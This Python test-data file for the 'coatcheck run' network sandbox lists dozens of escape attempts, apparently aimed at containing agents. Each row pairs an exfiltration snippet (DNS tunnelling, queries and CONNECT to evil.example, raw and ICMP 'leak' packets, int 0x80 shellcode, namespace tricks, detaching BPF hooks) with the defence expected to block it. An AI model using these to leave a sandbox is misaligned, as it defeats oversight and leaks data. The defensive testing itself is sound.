"""Class "other ways out": reaching somewhere by anything but TCP or DNS through us."""

from __future__ import annotations

from tests.bypass.rows import Row

POLICY = "turned to the proxy; policy names no such destination"
NO_UDP = "connect and sendmsg hooks: UDP is refused but for DNS"
KIND = "sock_create hook: TCP and UDP sockets only"
FAMILY = "seccomp filter of `coatcheck run`: AF_UNIX, AF_INET, AF_INET6 and AF_NETLINK only"
ABI = "seccomp filter: another ABI's calls are missing"
EGRESS = "egress hook: nothing of a job leaves but by loopback"
NO_RIGHTS = "the job has no capability on the host"
OWN_PORT = "connect hook: our own ports are refused"

CUT = ("ECONNRESET",)
NO = ("EPERM",)
NO_USERNS = ("ENOSPC", "EPERM", "EUSERS")  # where unprivileged user namespaces are off

_TCP = (
    Row(
        "TCP to another address or port",
        POLICY,
        "say(answer_of(socket.create_connection((OUTSIDE4, 7777))))",
        CUT,
    ),
    Row(
        "HTTP on port 80 of an allowed host's address",
        POLICY,
        r"say(answer_of(socket.create_connection((OUTSIDE4, 80)), b'GET / HTTP/1.1\r\nHost: service.test\r\n\r\n'))",
        ("b'HTTP/1.1 403",),
    ),
    Row(
        "IPv6 where only IPv4 is configured",
        POLICY,
        "say(answer_of(socket.create_connection((OUTSIDE6, 7777))))",
        CUT,
    ),
    Row(
        "IPv4 by a v4-mapped IPv6 address",
        POLICY,
        "say(answer_of(socket.create_connection(('::ffff:' + OUTSIDE4, 7777))))",
        CUT,
    ),
    Row(
        "a bound source address",
        POLICY,
        "say(answer_of(socket.create_connection((OUTSIDE4, 7777), source_address=(HOST4, 0))))",
        (*CUT, "timed out", "EINVAL"),
    ),
    Row(
        "non-blocking connect, then send",
        POLICY,
        """
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((OUTSIDE4, 7777))
        time.sleep(0.2)
        say(answer_of(s))
        """,
        CUT,
    ),
    Row(
        "AF_UNSPEC connect, then anew",
        POLICY,
        """
        s = socket.create_connection((OUTSIDE4, 443))
        libc.connect(s.fileno(), bytes(16), 16)
        s.connect((OUTSIDE4, 7777))
        say(answer_of(s))
        """,
        (*CUT, "EPIPE", "EINVAL"),
    ),
    Row(
        "TCP fast open by sendto",
        POLICY,
        r"""
        s = socket.socket()
        s.setblocking(True)
        s.sendto(b'leak\n', socket.MSG_FASTOPEN, (OUTSIDE4, 7777))
        say(s.recv(99))
        """,
        CUT,
    ),
    Row(
        "TCP fast open by TCP_FASTOPEN_CONNECT",
        POLICY,
        """
        s = socket.socket()
        s.setsockopt(socket.IPPROTO_TCP, 30, 1)
        s.connect((OUTSIDE4, 7777))
        say(answer_of(s))
        """,
        CUT,
    ),
    Row(
        "a destination that answers nothing until spoken to",
        "turned to the proxy, which dials nobody before policy has allowed it",
        """
        s = socket.create_connection((OUTSIDE4, 7777))
        s.settimeout(0.5)
        say(s.recv(9))
        """,
        ("timed out",),
    ),
    Row(
        "0.0.0.0 and :: for a service of the host",
        POLICY,
        "say(each(lambda a: answer_of(socket.create_connection((a, 7779))), ('0.0.0.0', '::')))",
        ("['ECONNRESET']",),
    ),
    Row(
        "a service of another user on loopback",
        POLICY,
        "say(answer_of(socket.create_connection(('127.0.0.1', 7779))))",
        CUT,
    ),
    Row("MPTCP", KIND, "socket.socket(INET, TCP, 262)", (*NO, "EPROTONOSUPPORT")),
    Row(
        "SCTP, DCCP, SMC, UDP-Lite",
        KIND,
        """
        kinds = ((INET, TCP, 132), (INET, 6, 33), (INET, TCP, 256), (INET, UDP, 136), (INET6, UDP, 136))
        say('got it' in each(lambda kind: socket.socket(*kind), kinds))
        """,
        ("False",),
    ),
    Row(
        "the upper layer protocols of TCP (TCP_ULP)",
        POLICY,
        """
        s = socket.create_connection((OUTSIDE4, 7777))
        tried(s.setsockopt, socket.IPPROTO_TCP, 31, b'tls')
        say(answer_of(s))
        """,
        CUT,
    ),
)

_UDP = (
    Row("UDP", NO_UDP, "socket.socket(INET, UDP).sendto(b'x', (OUTSIDE4, 7777))", NO),
    Row("QUIC's port", NO_UDP, "socket.socket(INET, UDP).connect((OUTSIDE4, 443))", NO),
    Row(
        "UDP over IPv6, and v4-mapped",
        NO_UDP,
        "say(each(lambda a: socket.socket(INET6, UDP).sendto(b'x', (a, 443)), (OUTSIDE6, '::ffff:' + OUTSIDE4)))",
        ("['EPERM']",),
    ),
    Row("multicast", NO_UDP, "socket.socket(INET, UDP).sendto(b'x', ('224.0.0.5', 5000))", NO),
    Row(
        "broadcast",
        NO_UDP,
        """
        s = socket.socket(INET, UDP)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b'x', ('10.77.0.255', 67))
        """,
        NO,
    ),
    Row(
        "mDNS and LLMNR",
        NO_UDP,
        """
        groups = (('224.0.0.251', 5353), ('224.0.0.252', 5355))
        say(each(lambda to: socket.socket(INET, UDP).sendto(b'x', to), groups))
        """,
        ("['EPERM']",),
    ),
    Row(
        "a UDP socket connected for DNS, then used elsewhere",
        NO_UDP,
        """
        s = socket.socket(INET, UDP)
        s.connect((OUTSIDE4, 53))
        s.sendto(b'x', (OUTSIDE4, 7777))
        """,
        NO,
    ),
    Row(
        "UDP out of a chosen device (IP_PKTINFO, port 53)",
        EGRESS,
        """
        device = struct.pack('=i8x', socket.if_nametoindex('v0'))
        socket.socket(INET, UDP).sendmsg([b'leak'], [(socket.IPPROTO_IP, 8, device)], 0, (OUTSIDE4, 53))
        """,
        (*NO, "done", "EINVAL", "ENETUNREACH"),
    ),
    Row(
        "UDP out of a chosen device (IP_UNICAST_IF, port 53)",
        EGRESS,
        """
        s = socket.socket(INET, UDP)
        s.setsockopt(socket.IPPROTO_IP, 50, struct.pack('!i', socket.if_nametoindex('v0')))
        s.sendto(b'leak', (OUTSIDE4, 53))
        """,
        (*NO, "done", "EINVAL", "ENETUNREACH"),
    ),
)

_DNS = (
    Row(
        "DNS to a server of one's own",
        "turned to the forwarder: names that policy does not name are REFUSED, nobody is asked",
        "say(dns('evil.example'))",
        ("rcode 5, 0 answers",),
    ),
    Row("DNS over TCP", "the same, by the proxy", "say(dns('evil.example', over=TCP))", ("rcode 5, 0 answers",)),
    Row(
        "DNS over TLS (port 853)",
        "TLS is ended by the proxy; policy names no such destination",
        r"say(answer_of(tls(853, 'dns.example'), b'\0\1x\r\n\r\n'))",
        ("b'HTTP/1.1 4",),
    ),
    Row(
        "DNS over HTTPS at a resolver's address",
        "TLS is ended by the proxy; policy names no such destination",
        r"say(answer_of(tls(443, 'dns.example'), b'GET /dns-query?dns=x HTTP/1.1\r\nHost: dns.example\r\n\r\n'))",
        ("b'HTTP/1.1 403",),
    ),
    Row(
        "DNS tunnelling by long random names",
        "the forwarder asks nobody about a name that policy does not name exactly",
        "say(dns(f'{os.urandom(30).hex()}.{os.urandom(30).hex()}.service.test'))",
        ("rcode 5, 0 answers",),
    ),
    Row(
        "DNS tunnelling by TXT, NULL and the like of an allowed name",
        "only A and AAAA are asked of servers",
        "say({dns('service.test', kind) for kind in (16, 10, 65, 99)})",
        ("{'rcode 0, 0 answers'}",),
    ),
    Row(
        "DNS tunnelling by what is not a question",
        "questions are parsed and asked afresh; nothing of a packet is relayed",
        """
        s = socket.socket(INET, UDP)
        s.settimeout(0.5)
        s.sendto(os.urandom(300), (OUTSIDE4, 53))
        s.recv(99)
        """,
        ("timed out", "done"),
    ),
)

_RAW = (
    Row("raw IP", f"{KIND}; {NO_RIGHTS}", "socket.socket(INET, RAW, 255)", NO),
    Row(
        "raw ICMP and ICMPv6",
        f"{KIND}; {NO_RIGHTS}",
        "say(each(lambda kind: socket.socket(kind[0], RAW, kind[1]), ((INET, 1), (INET6, 58))))",
        ("['EPERM']",),
    ),
    Row(
        "ICMP ping socket with a payload",
        KIND,
        r"socket.socket(INET, UDP, 1).sendto(b'\x08' + bytes(7) + b'leak', (OUTSIDE4, 0))",
        NO,
    ),
    Row("ICMPv6 ping socket", KIND, "socket.socket(INET6, UDP, 58)", NO),
    Row("AF_PACKET", FAMILY, "socket.socket(socket.AF_PACKET, RAW, 0x0300)", ("EAFNOSUPPORT",)),
    Row(
        "AF_PACKET in a user and network namespace of one's own",
        FAMILY,
        """
        unshare(NEWUSER | NEWNET)
        socket.socket(socket.AF_PACKET, RAW, 0x0300)
        """,
        ("EAFNOSUPPORT", *NO_USERNS),
    ),
    Row("AF_VSOCK", FAMILY, "socket.socket(socket.AF_VSOCK, TCP)", ("EAFNOSUPPORT",)),
    Row("AF_XDP", FAMILY, "socket.socket(44, RAW)", ("EAFNOSUPPORT",)),
    Row(
        "AF_ALG, Bluetooth, TIPC, RDS, SMC, CAN, KCM, QRTR",
        FAMILY,
        "say(each(lambda family: socket.socket(family, TCP), (38, 31, 30, 21, 43, 29, 41, 42)))",
        ("['EAFNOSUPPORT']",),
    ),
    Row(
        "a family by socketpair",
        FAMILY,
        "call(53 if X86 else 199, 30, 1, 0, ctypes.create_string_buffer(8))",
        ("EAFNOSUPPORT",),
    ),
    Row(
        "a socket by 32-bit system calls (int 0x80)",
        ABI,
        """
        import mmap
        # push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; xor edx, edx; int 0x80; pop rbx; ret
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(bytes.fromhex('53 89f8 89f3 89d1 31d2 cd80 5b c3'))
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        int80 = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)
        say(errno.errorcode.get(-int80(359, 17, 3), 'made') if X86 else 'ENOSYS')
        """,
        ("ENOSYS",),
    ),
    Row("a socket by x32 system calls", ABI, "call(0x40000000 + 41, 17, 3, 0)", ("ENOSYS",)),
    Row(
        "io_uring",
        "seccomp filter: io_uring_setup is refused",
        "call(425, 4, ctypes.create_string_buffer(120))",
        NO,
    ),
    Row(
        "taking the seccomp filter off, gaining by setuid programs",
        "no_new_privs; a filter can only be added to",
        """
        said = dict(line.split(':', 1) for line in open('/proc/self/status'))
        say(*(said[name].strip() for name in ('NoNewPrivs', 'Seccomp', 'CapEff')))
        """,
        ("1 2 0000000000000000",),
    ),
)

_OPTIONS = (
    Row(
        "SO_BINDTODEVICE",
        "the hook binds the socket to loopback again, or refuses",
        """
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'v0')
        s.connect((OUTSIDE4, 7777))
        say(answer_of(s))
        """,
        (*CUT, *NO),
    ),
    Row(
        "IP_UNICAST_IF",
        POLICY,
        """
        s = socket.socket()
        s.setsockopt(socket.IPPROTO_IP, 50, struct.pack('!i', socket.if_nametoindex('v0')))
        s.connect((OUTSIDE4, 7777))
        say(answer_of(s))
        """,
        (*CUT, *NO, "timed out"),
    ),
    Row(
        "IP_TRANSPARENT: another's source address",
        NO_RIGHTS,
        "socket.socket().setsockopt(socket.IPPROTO_IP, socket.IP_TRANSPARENT, 1)",
        NO,
    ),
    Row("SO_MARK for another routing table", NO_RIGHTS, "socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1)", NO),
    Row(
        "TCP_REPAIR: a connection without a connect",
        NO_RIGHTS,
        "socket.socket().setsockopt(socket.IPPROTO_TCP, 19, 1)",
        NO,
    ),
    Row(
        "loose source routing (IP_OPTIONS)",
        EGRESS,
        """
        s = socket.socket()
        s.settimeout(1)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([1, 131, 7, 4]) + socket.inet_aton(OUTSIDE4))
        s.connect((OUTSIDE4, 7777))
        say(answer_of(s))
        """,
        (*CUT, *NO, "timed out", "EINVAL", "ENETUNREACH"),
    ),
    Row(
        "a routing header (IPV6_RTHDR)",
        EGRESS,
        """
        s = socket.socket(INET6)
        s.settimeout(1)
        header = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + socket.inet_pton(INET6, OUTSIDE6)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
        s.connect((OUTSIDE6, 7777))
        say(answer_of(s))
        """,
        (*CUT, *NO, "timed out", "EINVAL", "ENETUNREACH"),
    ),
)

_OURS = (
    Row("connecting to the proxy's port", OWN_PORT, "socket.create_connection(('127.0.0.1', 1006))", NO),
    Row("connecting to the forwarder's port", OWN_PORT, "socket.create_connection(('127.0.0.1', 1007))", NO),
    Row("sending to the forwarder's port", NO_UDP, "socket.socket(INET, UDP).sendto(b'x', ('127.0.0.1', 1007))", NO),
    Row(
        "taking our ports while we are away",
        "bind hook; they are under 1024",
        """
        places = ((INET, TCP, '127.0.0.1', 1006), (INET, TCP, '0.0.0.0', 1006), (INET6, TCP, '::', 1006),
                  (INET, UDP, '0.0.0.0', 1007))
        say(each(lambda place: socket.socket(*place[:2]).bind(place[2:]), places))
        """,
        ("['EPERM']",),
    ),
    Row(
        "a proxy outside, named in http_proxy",
        POLICY,
        """
        environment = {**os.environ, 'http_proxy': f'http://{OUTSIDE4}:7777'}
        curl = ['curl', '-s', '-m', '5', '-w', '%{http_code}', '-o', '/dev/null', 'http://other.example/']
        say(subprocess.run(curl, env=environment, capture_output=True, text=True).stdout)
        """,
        ("403", "000"),
    ),
    Row(
        "CONNECT through an allowed host",
        "policy: CONNECT is never let through",
        r"""
        head = b'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n'
        say(answer_of(tls(443, 'service.test'), head))
        """,
        ("b'HTTP/1.1 4",),
    ),
    Row(
        "ending or stopping our processes", NO_RIGHTS, "say(each(lambda pid: os.kill(pid, 19), ours()))", ("['EPERM']",)
    ),
    Row(
        "detaching the hooks (bpf(2), the pins)",
        "the pins' folder is root's alone; bpf(2) takes capabilities",
        "say(tried(os.listdir, RUN_DIR + '/bpf'), tried(call, 321 if X86 else 280, 11, bytes(128), 128))",
        ("EACCES EPERM",),
    ),
    Row(
        "routes, addresses, other sockets by netlink",
        NO_RIGHTS,
        """
        route = ['ip', 'route', 'add', '192.0.2.0/24', 'via', OUTSIDE4]
        say(subprocess.run(route, capture_output=True, text=True).stderr)
        """,
        ("RTNETLINK answers: Operation not permitted",),
    ),
    Row(
        "a TUN device",
        NO_RIGHTS,
        """
        import fcntl
        fcntl.ioctl(os.open('/dev/net/tun', os.O_RDWR), 0x400454ca, struct.pack('16sH14x', b'leak', 1))
        """,
        ("EPERM", "EACCES", "ENOENT", "ENODEV"),
    ),
)

_PLACES = (
    Row(
        "moving to another cgroup",
        "cgroup files are root's",
        """
        mount = next(line.split()[4] for line in open('/proc/self/mountinfo') if ' - cgroup2 ' in line)
        open(mount + '/cgroup.procs', 'w').write('0')
        """,
        ("EACCES",),
    ),
    Row(
        "a cgroup file system of one's own (user, mount and cgroup namespace)",
        "its files are still root's",
        """
        unshare(NEWUSER | NEWNS | NEWCGROUP)
        result(libc.mount(b'none', b'/mnt', b'cgroup2', 0, None))
        open('/mnt/cgroup.procs', 'w').write('0')
        """,
        ("EACCES", "EPERM", *NO_USERNS),
    ),
    Row(
        "a user and network namespace",
        "connect hook: only the host's network namespace; nothing leads out of a new one",
        """
        unshare(NEWUSER | NEWNET)
        socket.create_connection((OUTSIDE4, 7777))
        """,
        ("EPERM", *NO_USERNS),
    ),
    Row(
        "a veth pair out of a network namespace of one's own",
        NO_RIGHTS,
        """
        unshare(NEWUSER)
        unshare(NEWNET)
        uid_0()
        pair = ['ip', 'link', 'add', 'x0', 'type', 'veth', 'peer', 'name', 'x1', 'netns', str(os.getppid())]
        say(subprocess.run(pair, capture_output=True, text=True).stderr)
        """,
        ("RTNETLINK answers: Operation not permitted", *NO_USERNS),
    ),
    Row(
        "entering another process's network namespace",
        NO_RIGHTS,
        "os.open('/proc/1/ns/net', os.O_RDONLY)",
        ("EACCES",),
    ),
    Row(
        "a mount namespace of one's own",
        "the hooks know no paths",
        """
        unshare(NEWUSER | NEWNS)
        say(answer_of(socket.create_connection((OUTSIDE4, 7777))))
        """,
        (*CUT, *NO_USERNS),
    ),
    Row(
        "a pid namespace of one's own",
        "the kernel's record has the host's pid",
        """
        unshare(NEWUSER | NEWPID)
        if os.fork() == 0:
            os._exit(tried(answer_of, socket.create_connection((OUTSIDE4, 7777))) == 'ECONNRESET')
        say(os.wait()[1] >> 8)
        """,
        ("1", *NO_USERNS),
    ),
    Row("a listener in the job, fetched from outside", EGRESS),
    Row(
        "a listener in the job that a service of the host fetches",
        "only the host can: it is a way in for the host, not a way out",
        holds=False,
    ),
    Row("a child that outlives the job's main process", "the job ends with its main process: its cgroup is killed"),
    Row(
        "a child of a running job, detached by two forks and a session",
        "it stays in the job's cgroup: governed like the rest",
    ),
    Row("a network socket inherited as standard input", "`coatcheck run` refuses to start"),
    Row(
        "a network socket inherited under a high number",
        "`coatcheck run` closes all but the first three descriptors; the kernel process looks again",
    ),
    Row(
        "a socket of another job, passed over AF_UNIX, not connected",
        "connect and sendmsg hooks: a socket works in the job that made it only",
    ),
    Row(
        "a connected socket of another job, passed over AF_UNIX",
        "it stays a connection of the job that made it, under that job's identity and on its record. "
        "Jobs that work together are one job to policy",
        holds=False,
    ),
    Row(
        "a network socket from a process outside of any job, passed over AF_UNIX",
        "whoever is outside and passes sockets in works for the job. Run agents under a user of their own, with no "
        "such helper (and no ssh-agent, tmux or D-Bus of a person) within reach",
        holds=False,
    ),
    Row(
        "a daemon outside of any job that dials for it (docker.sock, systemd, cron)",
        "AF_UNIX stays on the host, so it is not looked into. Keep such sockets out of the agent's reach: no docker "
        "group, no user manager, a mount view without them",
        holds=False,
    ),
    Row(
        "a process of the same user outside of any job, taken over by ptrace",
        "the kernel lets a user trace its own processes. Run agents under a user of their own, or set "
        "kernel.yama.ptrace_scope to 1 or more",
        holds=False,
    ),
)

ROWS = _TCP + _UDP + _DNS + _RAW + _OPTIONS + _OURS + _PLACES
